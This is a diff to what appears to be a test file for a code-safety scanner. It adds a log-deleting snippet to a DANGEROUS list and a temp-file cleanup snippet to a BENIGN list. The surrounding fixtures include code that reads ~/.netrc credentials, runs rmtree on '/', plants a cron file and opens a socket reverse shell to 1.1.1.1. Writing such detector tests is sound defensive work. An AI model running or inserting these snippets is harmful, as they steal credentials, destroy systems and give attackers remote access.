@@ -271,6 +271,7 @@ DANGEROUS = [
     ("from pathlib import Path\nPath.home().joinpath('.netrc').read_text()", None),
     ("open('/tmp/pwned', 'w').write('x')", None),
     ("import shutil\nshutil.rmtree('/')", None),
+    ("import os\ndef handle(d, c):\n    os.remove('/var/log/x')", None),
     ("import shutil\nshutil.copy('x', '/etc/cron.d/x')", None),
     (
         "import socket, os\ndef handle(d, c):\n    s = socket.socket()\n    s.connect(('1.1.1.1', 1))\n    os.dup2(s.fileno(), 0)",
@@ -311,6 +312,7 @@ BENIGN = [
     "class R:\n    def all(self):\n        return self.__class__.__subclasses__()",
     "import subprocess\nclass H:\n    def initialize(self, c):\n        subprocess.check_output(['nvidia-smi'])",
     "eval('1 + 1')\nexec('x = 1')",
+    "import os\nclass H:\n    def postprocess(self, x):\n        p = f'/tmp/{x}.wav'\n        open(p, 'wb').write(x)\n        os.remove(p)",
     "isinstance(f, type(eval))",
     "import subprocess\nsubprocess.run(['nvidia-smi'])",
     "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import os",
